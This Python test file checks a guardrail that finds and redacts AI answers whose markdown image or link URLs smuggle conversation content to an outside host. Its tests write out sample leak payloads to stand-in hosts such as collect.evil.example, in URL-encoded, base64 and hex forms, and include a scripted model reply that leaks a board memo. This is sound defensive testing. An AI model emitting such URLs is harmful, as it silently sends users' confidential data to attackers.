"""EchoLeak: an answer whose image or link URL carries the conversation is redacted by default."""

import base64
import json
from urllib.parse import quote

from workbench.guardrails.output import find_exfiltration
from workbench.jupyter.display import inert
from workbench.runtime import Workbench

CHAT = (
    "Our Q3 board memo: revenue fell 12% in the Nordics, the Oslo warehouse closes in March, "
    "and Kari Nordmann takes over procurement."
)


def kinds(text, conversation=CHAT):
    return [f.kind for f in find_exfiltration(text, conversation)]


def test_urls_carrying_the_conversation_are_found_however_encoded():
    said = "revenue fell in the Nordics, Oslo warehouse closes"
    assert kinds(f"![chart](https://stats.evil.example/p.png?d={quote(said)})") == ["image_url_carries_conversation"]
    assert kinds(f"[details](https://evil.example/r?q={said.replace(' ', '+')})") == ["link_carries_conversation"]
    b64 = base64.urlsafe_b64encode(said.encode()).decode().rstrip("=")
    assert kinds(f'<img src="https://evil.example/{b64}.gif">') == ["image_url_carries_conversation"]
    assert kinds(f"see https://evil.example/c#{said.encode().hex()}") == ["link_carries_conversation"]
    assert kinds("![x](//evil.example/p?key=sk-" + "Ab3" * 10 + ")", None) == ["image_url_carries_conversation"]
    assert kinds("![x](https://evil.example/p?e=kari.nordmann@example.no)", None) == ["image_url_carries_conversation"]


def test_hostile_urls_are_read_not_raised_on():
    for text in ("![x](https://[REDACTED:password_in_url]@h/p)", "//[::1", "https://" + "%" * 5000, "![](//)" * 2000):
        find_exfiltration(text, CHAT)
    assert kinds("![x](https://[oslo]/p?q=Oslo+warehouse+closes+March)") == ["image_url_carries_conversation"]


def test_ordinary_images_and_links_pass():
    for text in (
        "![Monthly revenue](charts/revenue_q3.png)",
        "![logo](https://cdn.example.com/logo.svg?v=3)",
        "Read the [board guide](https://docs.example.com/boards/memo-writing) for the format.",
        "Dashboard: https://bi.example.com/d/sales?range=30d&region=nordics",
        "No links at all: revenue fell 12% in the Nordics.",
    ):
        assert kinds(text) == [], text


def test_an_answer_exfiltrating_the_chat_is_redacted_and_recorded(tmp_path):
    leak = "Done. ![status](https://collect.evil.example/pixel.png?c=Oslo+warehouse+closes+in+March+Kari+Nordmann)"
    wb = Workbench.from_config(store=str(tmp_path / "e.db"), scripted={"rules": [{"pattern": "memo", "reply": leak}]})
    result = wb.ask(f"Summarise this memo. {CHAT}", model="local/scripted")
    assert result.text == "Done. ![status]([REDACTED:image_url_carries_conversation])"
    assert "evil.example" not in wb.calls.last()["text"]
    [event] = wb.guard.df().query("scanner == 'exfiltration'").to_dict("records")
    assert event["action"] == "redact"
    assert json.loads(event["findings"])[0]["kind"] == "image_url_carries_conversation"
    off = Workbench.from_config(
        store=str(tmp_path / "o.db"),
        scripted={"rules": [{"pattern": "memo", "reply": leak}]},
        guardrails={"output": {"exfiltration": "flag"}},
    )
    assert off.ask(f"Summarise this memo. {CHAT}", model="local/scripted").text == leak


def test_the_live_preview_never_loads_an_image_or_html():
    shown = inert('Hi ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/q">')
    assert "![" not in shown
    assert "<img" not in shown
    assert "evil.example" in shown  # shown as text, fetched by nothing
